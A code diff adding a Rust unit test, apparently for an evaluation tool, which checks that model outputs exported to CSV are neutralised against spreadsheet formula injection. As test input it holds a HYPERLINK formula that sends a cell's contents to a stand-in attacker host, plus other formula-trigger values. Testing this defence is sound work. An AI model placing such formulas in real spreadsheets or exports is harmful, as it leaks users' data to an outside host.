@@ -493,6 +493,35 @@ mod tests {
     }
 
     #[test]
+    fn results_csv_neutralises_formulas_from_model_output() {
+        let cases = vec![TestCase {
+            inputs: BTreeMap::from([("q".into(), "@cmd".into())]),
+            expected: Some("=1".into()),
+            note: String::new(),
+            held_out: false,
+        }];
+        let mut r = result(0, 0, "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", false);
+        r.error = Some("-boom".into());
+        let csv = results_csv(&["+Variant".into()], &["q".into()], &cases, &["=check".into()], &[r]);
+        let mut lines = csv.split("\r\n");
+        let header = lines.next().unwrap_or_default();
+        assert!(header.contains(",'=check,"), "{header}");
+        let row = lines.next().unwrap_or_default();
+        assert!(
+            row.starts_with(
+                "'+Variant,1,1,'@cmd,'=1,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",'-boom,"
+            ),
+            "{row}"
+        );
+        // Every cell, read back as a spreadsheet would, starts with no formula character.
+        let rows = crate::domain::evals::cases::parse_rows(&csv.replace("'", "\u{1}"), ',').expect("parses");
+        for cell in rows.iter().flatten() {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
+            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
+        }
+    }
+
+    #[test]
     fn chart_bars_follow_rates_and_intervals() {
         let results: Vec<JobResult> = (0..10).map(|c| result(0, c, "x", c < 7)).collect();
         let report = summarize(&results, &["Base".into()], &["c".into()], &[false; 10]);
